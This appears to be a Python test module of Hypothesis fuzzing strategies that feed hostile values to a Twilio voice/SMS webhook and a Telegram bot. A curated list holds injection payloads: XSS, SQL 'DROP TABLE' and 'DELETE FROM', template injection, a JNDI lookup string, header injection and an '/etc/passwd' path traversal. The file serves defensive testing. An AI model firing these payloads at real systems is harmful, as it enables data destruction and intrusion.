"""Hypothesis strategies for hostile input: what an attacker, a broken client or bad luck sends.

Values mix hypothesis' own text (every Unicode plane, control characters, NUL) with a curated
list of known troublemakers: SQL injection, script and attribute-breaking HTML, template
syntax, absurd keypad input and speech, numbers that are not numbers ("NaN", "1e999").
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

from tests.bot.conftest import payload as telegram_payload
from tests.ivr.driver import CALLER
from tests.ivr.driver import payload as twilio_payload

SCRIPT = "<script>alert('fuzz')</script>"
ESCAPED_SCRIPT = "&lt;script&gt;alert(&#39;fuzz&#39;)&lt;/script&gt;"
TROUBLEMAKERS = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "'; DROP TABLE callbacks; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    "Robert'); DELETE FROM referrals;--",
    "{{ config.items() }}",
    "{% for x in range(9**9) %}x{% endfor %}",
    "${jndi:ldap://example.org/a}",
    "%s%s%s%n",
    "\x00",
    "a\x00b",
    "\r\n\r\nSet-Cookie: x=1",
    "\x1b[31mred\x1b[0m",
    "\u202eevil\u202c",
    "\ufeff\u200b\u200d",
    "🙂" * 50,
    "NaN",
    "-1",
    "1e999",
    "-0",
    "*#*#",
    "#",
    "*",
    "0" * 1000,
    "9" * 1000,
    "../../../../etc/passwd",
    "a" * 5000,
    "help " * 400,
    "suicide",
    "",
    " ",
)
DIGITS = "0123456789*#"


def hostile_text() -> st.SearchStrategy[str]:
    """Any string a form could carry, leaning on the troublemakers."""
    return st.one_of(
        st.sampled_from(TROUBLEMAKERS),
        st.text(max_size=300),
        st.lists(st.sampled_from(TROUBLEMAKERS), min_size=2, max_size=4).map("".join),
        st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=50),
    )


def header_text() -> st.SearchStrategy[str]:
    """Hostile text that can still travel in an HTTP header (no line breaks)."""
    return hostile_text().map(lambda text: text.replace("\r", " ").replace("\n", " "))


def keys() -> st.SearchStrategy[str]:
    """What may arrive as ``Digits``: sane keys, absurd runs of keys, or anything at all."""
    return st.one_of(
        st.text(alphabet=DIGITS, min_size=1, max_size=4),
        st.text(alphabet=DIGITS, min_size=100, max_size=1000),
        st.sampled_from(("*#*#", "1" * 1000, "#" * 1000, "0", "9", "*")),
        hostile_text(),
    )


def confidence() -> st.SearchStrategy[str]:
    """``Confidence`` as Twilio sends it (a decimal) or as nobody should."""
    return st.one_of(
        st.sampled_from(("NaN", "-1", "1e999", "-1e999", "inf", "-inf", "", "0", "1", "0.01")),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        hostile_text(),
    )


def step_query() -> st.SearchStrategy[dict[str, str]]:
    """The query string of an action URL: the step, the silence count, carried words."""
    number = st.one_of(
        st.integers(min_value=1, max_value=10_000).map(str),
        st.sampled_from(("0", "-1", "10001", "9" * 40, "1e3", "", "٣", "²")),
        hostile_text(),
    )
    return st.fixed_dictionaries(
        {"n": number},
        optional={
            "q": number,
            "heard": hostile_text(),
            "then": st.one_of(st.just("+447700900101,+447700900102"), hostile_text()),
            "wait": number,
        },
    )


def call_sid() -> st.SearchStrategy[str]:
    """Mostly one real-looking call (so the fuzz reaches the dialog), sometimes garbage."""
    return st.one_of(st.just("CA" + "f" * 32), st.just("CA" + "e" * 32), hostile_text())


def twilio_form() -> st.SearchStrategy[dict[str, str]]:
    """A voice webhook's parameters: Twilio's names, hostile values, odd extra fields."""
    base = twilio_payload("voice_incoming")
    return st.fixed_dictionaries(
        {"CallSid": call_sid()},
        optional={
            "From": st.one_of(st.just(CALLER), hostile_text()),
            "Digits": keys(),
            "SpeechResult": hostile_text(),
            "Confidence": confidence(),
            "RecordingSid": st.one_of(st.just("RE" + "a" * 32), hostile_text()),
            "RecordingUrl": hostile_text(),
            "RecordingDuration": st.one_of(st.sampled_from(("30", "-5", "9" * 30)), hostile_text()),
            "RecordingStatus": st.one_of(st.just("completed"), hostile_text()),
            "TranscriptionText": hostile_text(),
            "TranscriptionStatus": st.one_of(st.just("completed"), hostile_text()),
            "DialCallStatus": st.one_of(st.just("completed"), hostile_text()),
            "DialBridged": st.one_of(st.just("false"), hostile_text()),
            "CallStatus": st.one_of(st.sampled_from(("completed", "in-progress")), hostile_text()),
            "ErrorCode": hostile_text(),
            "AccountSid": hostile_text(),
        },
    ).map(lambda hostile: {**base, **hostile})


def sms_form() -> st.SearchStrategy[dict[str, str]]:
    """An incoming text's parameters with hostile values."""
    base = twilio_payload("sms_incoming")
    return st.fixed_dictionaries(
        {"Body": hostile_text()},
        optional={
            "From": st.one_of(st.just(CALLER), hostile_text()),
            "MessageSid": st.one_of(st.just("SM" + "b" * 32), hostile_text()),
            "OptOutType": st.one_of(st.just("STOP"), hostile_text()),
            "NumMedia": hostile_text(),
        },
    ).map(lambda hostile: {**base, **hostile})


def raw_form_body() -> st.SearchStrategy[bytes]:
    """A form body whose values are arbitrary bytes (invalid UTF-8 included), percent-encoded."""
    names = st.sampled_from(("CallSid", "Digits", "SpeechResult", "Body", "From", "Confidence"))
    pair = st.tuples(names, st.binary(max_size=60))
    return st.lists(pair, max_size=6).map(
        lambda pairs: "&".join(
            f"{name}={quote_from_bytes(value)}" for name, value in pairs
        ).encode()
    )


# -- Telegram -------------------------------------------------------------------------------

HUGE_IDS = (2**31, 2**53 + 1, 2**63, 2**64, 10**30, -(2**63) - 1, 0, -1)


def telegram_id() -> st.SearchStrategy[Any]:
    """An id: ordinary, huge, negative, or not a number at all."""
    return st.one_of(
        st.integers(min_value=1, max_value=10**10),
        st.sampled_from(HUGE_IDS),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.booleans(),
        hostile_text(),
        st.none(),
    )


def json_values() -> st.SearchStrategy[Any]:
    """Any JSON document."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(),
    )
    return st.recursive(
        leaves,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4),
            st.dictionaries(st.text(max_size=12), inner, max_size=4),
        ),
        max_leaves=20,
    )


@st.composite
def valid_shaped_update(draw: st.DrawFn) -> dict[str, Any]:
    """A real Update shape (text, button, contact, sticker) with hostile values in it."""
    name = draw(st.sampled_from(("text", "start", "callback_query", "contact_own", "sticker")))
    update = json.loads(json.dumps(telegram_payload(name)))
    update["update_id"] = draw(st.one_of(st.integers(min_value=1, max_value=2**31), telegram_id()))
    body = update.get("message") or update["callback_query"]
    if "text" in body or name == "text":
        body["text"] = draw(hostile_text())
    if "data" in body:
        body["data"] = draw(hostile_text())
    if "contact" in body:
        body["contact"]["phone_number"] = draw(hostile_text())
        body["contact"]["user_id"] = draw(telegram_id())
    body["from"]["id"] = draw(telegram_id())
    body["from"]["first_name"] = draw(hostile_text())
    chat = body.get("chat") or body["message"]["chat"]
    chat["id"] = draw(telegram_id())
    chat["type"] = draw(st.one_of(st.just("private"), hostile_text()))
    return update


@st.composite
def broken_update(draw: st.DrawFn) -> dict[str, Any]:
    """A real Update with fields removed or replaced by the wrong types."""
    update = json.loads(
        json.dumps(telegram_payload(draw(st.sampled_from(("text", "callback_query")))))
    )
    body_name = "message" if "message" in update else "callback_query"
    body = update[body_name]
    for field in draw(st.lists(st.sampled_from(sorted(body)), max_size=3, unique=True)):
        if draw(st.booleans()):
            del body[field]
        else:
            body[field] = draw(json_values())
    if draw(st.booleans()):
        update[body_name] = draw(json_values())
    if draw(st.booleans()):
        update["update_id"] = draw(telegram_id())
    return update


def telegram_body() -> st.SearchStrategy[bytes]:
    """What may reach the webhook: hostile real shapes, broken shapes, any JSON, any bytes."""
    documents = st.one_of(valid_shaped_update(), broken_update(), json_values())
    return st.one_of(
        documents.map(lambda document: json.dumps(document).encode()),
        st.binary(max_size=300),
        st.sampled_from((b"", b"{", b'{"update_id": 1e999}', b'{"update_id": NaN}', b"\xff\xfe")),
        valid_shaped_update().map(
            lambda document: json.dumps(document).encode()[:-7] + b"\xc3\x28}"
        ),
    )
